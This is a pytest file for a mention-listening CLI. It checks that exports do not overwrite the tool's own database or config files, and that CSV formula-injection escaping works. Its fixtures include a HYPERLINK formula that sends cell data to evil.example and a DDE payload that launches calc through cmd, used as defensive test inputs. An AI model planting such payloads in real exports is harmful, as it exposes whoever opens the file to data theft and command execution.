"""Exports never overwrite listener's own files, and CSV cells never run as formulas (items 4, 7)."""

from __future__ import annotations

import csv
from datetime import UTC, datetime
from pathlib import Path

import pytest
from typer.testing import CliRunner

from connectors.base import Mention
from listener.cli import app
from listener.config import load
from listener.ingest import Ingestor
from storage import db

HOSTILE = ['=HYPERLINK("http://evil.example/?acme"&A1,"click")', "+acme+1", "-acme+3", "@acme(A1)",
           "acme plain"]


@pytest.fixture
def seeded(config_file):
    path = config_file()
    config = load(path)
    engine = db.create(config.storage.url)
    Ingestor(engine, config.topics).store([
        Mention(source="x", external_id=str(i), text=text,
                author="=cmd|' /C calc'!A0" if i == 0 else "ann", created_at=datetime(2026, 11, 17, tzinfo=UTC))
        for i, text in enumerate(HOSTILE)
    ])
    engine.dispose()
    return path, config


def invoke(config_path, *args):
    return CliRunner().invoke(app, ["--config", str(config_path), *args])


def test_output_refuses_the_database_its_wal_and_shm_and_the_config_even_with_force(seeded):
    path, config = seeded
    database = config.storage.url.removeprefix("sqlite:///")
    before = {name: Path(name).read_bytes() for name in (database, str(path))}
    for target in (database, database + "-wal", database + "-shm", str(path)):
        result = invoke(path, "mentions", "--format", "csv", "--output", target, "--force")
        assert result.exit_code == 2, target
        assert "one of listener's own files" in result.stderr
    assert {name: Path(name).read_bytes() for name in before} == before


def test_output_refuses_an_existing_file_unless_forced(seeded, tmp_path):
    path, _ = seeded
    existing = tmp_path / "report.csv"
    existing.write_text("keep me", encoding="utf-8")
    refused = invoke(path, "mentions", "--output", str(existing))
    assert refused.exit_code == 2 and "already exists; use --force" in refused.stderr
    assert existing.read_text(encoding="utf-8") == "keep me"
    forced = invoke(path, "mentions", "--output", str(existing), "--force")
    assert forced.exit_code == 0, forced.stderr
    assert existing.read_text(encoding="utf-8").startswith("source,id,")


def test_csv_cells_that_would_run_as_formulas_are_prefixed_unless_turned_off(seeded, tmp_path):
    path, _ = seeded
    escaped = invoke(path, "mentions", "--format", "csv", "--sort", "newest")
    texts = {row["id"]: row["text"] for row in csv.DictReader(escaped.stdout.splitlines())}
    assert texts == {"0": "'" + HOSTILE[0], "1": "'+acme+1", "2": "'-acme+3", "3": "'@acme(A1)", "4": "acme plain"}
    authors = invoke(path, "authors", "--format", "csv")
    assert "'=cmd|' /C calc'!A0" in authors.stdout
    raw = invoke(path, "mentions", "--format", "csv", "--no-escape-formulas")
    assert {row["text"] for row in csv.DictReader(raw.stdout.splitlines())} >= set(HOSTILE[:4])
